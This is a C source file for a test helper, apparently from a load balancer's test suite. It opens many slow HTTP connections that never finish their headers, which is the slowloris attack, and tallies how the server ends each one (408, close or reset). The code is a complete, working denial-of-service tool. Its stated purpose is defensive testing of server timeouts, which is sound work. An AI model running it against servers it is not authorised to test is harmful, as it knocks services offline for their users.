// SPDX-License-Identifier: BSD-2-Clause
/*
 * tf-slowloris: many slow clients (the slowloris attack), for a balancer's
 * test.  It opens N nonblocking connections to ADDR:PORT, each from the
 * next --from address in turn (several, when N exceeds one address's
 * ephemeral ports), BATCH connects in flight at a time, and sends each one
 * an HTTP head that never ends: the request line and a header line a few
 * bytes at a time, every EVERY_MS, never the empty line.
 *
 *   tf-slowloris --to ADDR:PORT --count N [--from A[,A]...] [--batch 256]
 *                [--every-ms 1000] [--bytes 2]
 *
 * stdout: "connected N failed F" once every connect has ended, then, once
 * the server ended every connection (or on SIGTERM or SIGINT), "connected N
 * answered_408 A answered_other O closed C reset R": how the server ended
 * them (an answer, then its FIN: answered; a FIN without a word: closed; an
 * RST: reset), and it exits.  A connection is closed here after the
 * server's FIN (so that the server's close is a clean one); the rest are
 * closed at a signal's exit.  IPv4 only.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "helper.h"

static const char head[] = "GET /slow HTTP/1.1\r\nHost: slow.test\r\nX-Slow: ";

enum state { CONNECTING, SLOW, DONE };

struct conn {
	int fd;
	enum state state;
	size_t sent;			/* bytes of the head (then of its endless header) */
	char got[16];			/* the first bytes of an answer: "HTTP/1.1 408" */
	size_t got_len;
};

static volatile sig_atomic_t stop;
static long connected, failed, answered_408, answered_other, closed, reset;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static int64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* The next n bytes of c's head: the request line, then its header's value for ever. */
static void trickle(struct conn *c, int n)
{
	char buf[16];
	int len = 0;

	for (; len < n && len < (int)sizeof(buf); len++)
		buf[len] = c->sent + len < sizeof(head) - 1 ? head[c->sent + len] : 'x';
	if (send(c->fd, buf, len, MSG_DONTWAIT | MSG_NOSIGNAL) == len)
		c->sent += len;
}

static void done(struct conn *c, int ep)
{
	epoll_ctl(ep, EPOLL_CTL_DEL, c->fd, NULL);
	close(c->fd);
	c->fd = -1;
	c->state = DONE;
}

/* What the server sent: an answer's first bytes, its FIN (closed here then), or an RST. */
static void readable(struct conn *c, int ep)
{
	for (;;) {
		char buf[512];
		ssize_t n = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);

		if (n > 0) {
			size_t take = sizeof(c->got) - c->got_len < (size_t)n ? sizeof(c->got) - c->got_len : (size_t)n;

			memcpy(c->got + c->got_len, buf, take);
			c->got_len += take;
			continue;
		}
		if (n < 0 && (errno == EAGAIN || errno == EINTR))
			return;
		if (n < 0)
			reset++;
		else if (c->got_len >= 12 && !memcmp(c->got, "HTTP/1.1 408", 12))
			answered_408++;
		else if (c->got_len)
			answered_other++;
		else
			closed++;
		done(c, ep);
		return;
	}
}

static void raise_nofile(long need)
{
	struct rlimit r;

	if (getrlimit(RLIMIT_NOFILE, &r) == 0 && r.rlim_cur < r.rlim_max) {
		r.rlim_cur = r.rlim_max;
		setrlimit(RLIMIT_NOFILE, &r);
	}
	if (getrlimit(RLIMIT_NOFILE, &r) == 0 && (long)r.rlim_cur < need + 16)
		die("%ld connections need %ld open files; the limit is %llu (ulimit -n)", need, need + 16,
		    (unsigned long long)r.rlim_cur);
}

int main(int argc, char **argv)
{
	const char *to = arg_str(argc, argv, "--to"), *from = arg_str(argc, argv, "--from");
	long count = arg_num(argc, argv, "--count", 0), batch = arg_num(argc, argv, "--batch", 256);
	int every_ms = arg_num(argc, argv, "--every-ms", 1000), bytes = arg_num(argc, argv, "--bytes", 2);
	struct sockaddr_in dst = { .sin_family = AF_INET }, src[64];
	struct epoll_event ev[1024];
	struct sigaction sa = { .sa_handler = on_signal };
	int n_src = 0, ep, in_flight = 0;
	long next = 0, ended = 0, turn = 0;
	int64_t next_tick;
	struct conn *c;
	char host[64], *colon;

	helper_name = "tf-slowloris";
	if (!to || count <= 0 || batch <= 0 || every_ms <= 0 || bytes <= 0)
		die("usage: tf-slowloris --to ADDR:PORT --count N [--from A[,A]...] [--batch 256] [--every-ms 1000] "
		    "[--bytes 2]");
	snprintf(host, sizeof(host), "%s", to);
	colon = strrchr(host, ':');
	if (!colon || (*colon = 0, inet_pton(AF_INET, host, &dst.sin_addr) != 1))
		die("--to %s: not ADDR:PORT (IPv4)", to);
	dst.sin_port = htons(atoi(colon + 1));
	for (const char *p = from; p && *p && n_src < 64;) {
		size_t len = strcspn(p, ",");

		snprintf(host, sizeof(host), "%.*s", (int)len, p);
		src[n_src] = (struct sockaddr_in){ .sin_family = AF_INET };
		if (inet_pton(AF_INET, host, &src[n_src].sin_addr) != 1)
			die("--from: '%s' is not an IPv4 address", host);
		n_src++;
		p += len + (p[len] == ',');
	}
	raise_nofile(count);
	sigemptyset(&sa.sa_mask);
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	c = calloc(count, sizeof(*c));
	ep = epoll_create1(EPOLL_CLOEXEC);
	if (!c || ep < 0)
		die("no memory or no epoll: %s", strerror(errno));

	/* Connect: BATCH in flight at a time, so that the server's accept queue is never flooded. */
	while (ended < count && !stop) {
		while (next < count && in_flight < batch) {
			struct epoll_event e = { .events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.u64 = next };
			struct conn *k = &c[next];
			int one = 1;

			k->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
			if (k->fd < 0)
				die("socket %ld: %s", next, strerror(errno));
			if (n_src) {
				/* The port is picked at connect, for the 4-tuple (not one a source address). */
				setsockopt(k->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
				if (bind(k->fd, (struct sockaddr *)&src[next % n_src], sizeof(src[0])))
					die("bind connection %ld: %s", next, strerror(errno));
			}
			if (connect(k->fd, (struct sockaddr *)&dst, sizeof(dst)) && errno != EINPROGRESS)
				die("connect %ld: %s", next, strerror(errno));
			if (epoll_ctl(ep, EPOLL_CTL_ADD, k->fd, &e))
				die("epoll_ctl: %s", strerror(errno));
			next++;
			in_flight++;
		}
		int n = epoll_wait(ep, ev, 1024, 1000);

		for (int i = 0; i < n; i++) {
			struct conn *k = &c[ev[i].data.u64];
			struct epoll_event e = { .events = EPOLLIN | EPOLLRDHUP, .data.u64 = ev[i].data.u64 };
			int err = 0;
			socklen_t el = sizeof(err);

			if (k->state != CONNECTING)
				continue;
			getsockopt(k->fd, SOL_SOCKET, SO_ERROR, &err, &el);
			in_flight--;
			ended++;
			if (err) {
				failed++;
				done(k, ep);
				continue;
			}
			connected++;
			k->state = SLOW;
			epoll_ctl(ep, EPOLL_CTL_MOD, k->fd, &e);
			trickle(k, bytes);
		}
	}
	printf("connected %ld failed %ld\n", connected, failed);
	fflush(stdout);

	/* Slow: a tenth of them gets its next bytes each tenth of EVERY_MS (spread out, not one burst). */
	next_tick = now_ms();
	while (!stop && answered_408 + answered_other + closed + reset < connected) {
		int64_t now = now_ms();
		int n;

		if (now >= next_tick) {
			for (long i = turn; i < count; i += 10)
				if (c[i].state == SLOW)
					trickle(&c[i], bytes);
			turn = (turn + 1) % 10;
			next_tick = now + every_ms / 10;
		}
		n = epoll_wait(ep, ev, 1024, (int)(next_tick > now ? next_tick - now : 0));
		for (int i = 0; i < n; i++)
			if (c[ev[i].data.u64].state == SLOW)
				readable(&c[ev[i].data.u64], ep);
	}
	for (long i = 0; i < count; i++)
		if (c[i].fd >= 0 && c[i].state != DONE)
			close(c[i].fd);
	printf("connected %ld answered_408 %ld answered_other %ld closed %ld reset %ld\n", connected, answered_408,
	       answered_other, closed, reset);
	free(c);
	close(ep);
	return 0;
}
